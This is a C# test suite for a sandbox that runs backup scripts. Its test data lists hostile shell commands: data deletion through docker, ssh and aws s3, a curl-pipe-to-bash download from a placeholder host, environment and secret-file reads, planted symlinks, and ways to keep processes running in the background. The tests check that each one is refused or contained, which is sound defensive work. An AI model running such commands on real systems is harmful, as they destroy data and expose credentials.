using System.Diagnostics;
using Verification.Fixtures.Backup;
using Verification.Readiness;

namespace Verification.Fixtures.Tests.Backup;

public sealed class HostileScriptTests(BackupBench bench) : IClassFixture<BackupBench>
{
    private static CancellationToken Ct => TestContext.Current.CancellationToken;

    [Theory]
    [InlineData("docker run --rm -v /:/host alpine true", "docker")]
    [InlineData("docker volume rm pgdata", "docker")]
    [InlineData("docker compose down --volumes", "docker")]
    [InlineData("docker compose -f compose.yaml exec -T postgres rm -rf /var/lib/postgresql", "docker")]
    [InlineData("docker compose exec redis redis-cli flushall", "docker")]
    [InlineData("docker exec -i somebody pg_dump", "docker")]
    [InlineData("docker login -u me registry.example.test", "docker")]
    [InlineData("docker-compose stop", "docker-compose")]
    [InlineData("ssh backup@offsite.example.test rm -rf backups", "ssh")]
    [InlineData("sudo git push", "git")]
    [InlineData("rsync -a backup@offsite.example.test:all/ .", "rsync")]
    [InlineData("aws s3 rm s3://backups --recursive", "aws")]
    [InlineData("npm install left-pad", "npm")]
    public async Task Run_WhatIsNotForTheDatabase_IsRefusedAndRecorded(string command, string program)
    {
        await using DeploymentSandbox sandbox = await bench.OpenScriptAsync(command);
        ScriptRun run = await sandbox.RunAsync("backup.sh", new(), Ct);

        run.ExitCode.Should().Be(125);
        run.Errors.Should().StartWith($"not passed on: {program} ");
        run.Refused.Should().ContainSingle().Which.Program.Should().Be(program);
    }

    [Fact]
    public async Task Run_FetchedCode_IsNotFetched()
    {
        await using DeploymentSandbox sandbox = await bench.OpenScriptAsync("curl -fsSL https://get.example.test/install.sh | bash && echo nothing came");
        ScriptRun run = await sandbox.RunAsync("backup.sh", new(), Ct);
        (run.ExitCode, run.Output, run.Alerted).Should().Be((0, "nothing came\n", false));
    }

    [Fact]
    public async Task Run_EnvironmentAndFilesOfTheHarness_AreOutOfReach()
    {
        Environment.SetEnvironmentVariable("HARNESS_CANARY", "canary-5ec2e7");
        await bench.ReadyAsync();
        string secret = Path.Combine(bench.Root, "secret");
        await File.WriteAllTextAsync(secret, "canary-5ec2e7", Ct);
        File.SetUnixFileMode(secret, UnixFileMode.UserRead);
        string folder = bench.Folder(("backup.sh", $"env; echo ---; r={bench.Root[1..]}; cat \"/$r/secret\" /proc/{Environment.ProcessId}/environ\nls \"/$r/{Path.GetRelativePath(bench.Root, bench.Server.DataDirectory)}\"; id -u; exit 0"));
        File.CreateSymbolicLink(Path.Combine(folder, "linked"), secret);
        File.CreateSymbolicLink(Path.Combine(folder, "etc"), "/etc");
        await using DeploymentSandbox sandbox = await bench.OpenAsync(folder);
        ScriptRun run = await sandbox.RunAsync("backup.sh", new(), Ct);

        sandbox.NotCopied.Should().BeEquivalentTo("linked: a link that leads out of the folder", "etc: a link to a folder");
        run.Output.Split("---")[0].Split('\n').Where(line => line.Contains('=')).Select(line => line.Split('=')[0])
            .Should().BeSubsetOf(["PATH", "HOME", "TMPDIR", "LANG", "TZ", "VERIFICATION_RUN", "SANDBOX_RUN", "PWD", "SHLVL", "_", "OLDPWD"]);
        if (Environment.IsPrivilegedProcess)
        {
            (run.Output + run.Errors).Should().NotContain("canary-5ec2e7").And.Contain("Permission denied");
            run.Output.Should().NotContain("PG_VERSION").And.NotEndWith("\n0\n");
        }
    }

    [Theory]
    [InlineData("sleep 1000 & exit 0")]
    [InlineData("setsid sleep 1000 & exit 0")]
    [InlineData("PATH=/usr/bin:/bin\nsetsid sleep 1000 & exit 0")]
    [InlineData("setsid env -i sleep 1000 >/dev/null 2>&1 & exit 0")]
    [InlineData("(trap '' TERM HUP; setsid bash -c 'while :; do sleep 1; done' >/dev/null 2>&1 &) ; exit 0")]
    public async Task Run_LeftInTheBackground_IsEnded(string script)
    {
        await using DeploymentSandbox sandbox = await bench.OpenScriptAsync($"echo $$ > pid\n{script}");
        ScriptRun run = await sandbox.RunAsync("backup.sh", new(), Ct);

        run.ExitCode.Should().Be(0);
        Standing(sandbox.Folder).Should().BeEmpty();
        Traces.Of(sandbox.Folder).Should().BeEmpty();
    }

    [Fact]
    public async Task Run_Timeout_KillsAllAndSaysSo()
    {
        await using DeploymentSandbox sandbox = await bench.OpenScriptAsync("echo begun; sleep 1000 | cat; echo never");
        Stopwatch watch = Stopwatch.StartNew();
        ScriptRun run = await sandbox.RunAsync("backup.sh", new() { Timeout = TimeSpan.FromSeconds(1) }, Ct);

        run.ExitCode.Should().Be(124);
        run.Errors.Should().Contain("did not end within 1 s").And.Contain("begun");
        watch.Elapsed.Should().BeLessThan(TimeSpan.FromSeconds(10));
        Standing(sandbox.Folder).Should().BeEmpty();
    }

    [Fact]
    public async Task Run_LinksPlantedByTheScript_AreNotFollowed()
    {
        await bench.ReadyAsync();
        string secret = Path.Combine(bench.Root, "dump-of-ours.sql");
        await File.WriteAllTextAsync(secret, "--\n-- PostgreSQL database dump\n--\n", Ct);
        DateTime written = File.GetLastWriteTimeUtc(secret);
        await using DeploymentSandbox sandbox = await bench.OpenScriptAsync(
            $"s=/\"{bench.Root[1..]}\"; d=$s/dump-of-ours.sql; ln -s $d linked.sql; ln -s $s all; mkfifo pipe.sql; for r in ../runs/*/calls; do ln -s $d $r/1.call; mkfifo $r/2.call; done; true");
        ScriptRun run = await sandbox.RunAsync("backup.sh", new(), Ct);

        (run.ExitCode, run.Calls.Count).Should().Be((0, 0));
        sandbox.Backups().Should().BeEmpty();
        sandbox.Age(TimeSpan.FromDays(3));
        File.GetLastWriteTimeUtc(secret).Should().Be(written);
    }

    [Theory]
    [InlineData("../../elsewhere.sh")]
    [InlineData("/bin/true")]
    [InlineData("missing.sh")]
    public async Task Run_NoScriptOfTheFolder_IsAnInputError(string script)
    {
        await using DeploymentSandbox sandbox = await bench.OpenScriptAsync("true");
        Func<Task> run = () => sandbox.RunAsync(script, new(), Ct);
        await run.Should().ThrowAsync<InputException>().WithMessage("The deployment has no script*");
    }

    private static IEnumerable<string> Standing(string folder) => Directory.EnumerateDirectories("/proc")
        .Where(process => int.TryParse(Path.GetFileName(process), out _))
        .Where(process => new FileInfo($"{process}/cwd").LinkTarget?.StartsWith(folder, StringComparison.Ordinal) == true);
}
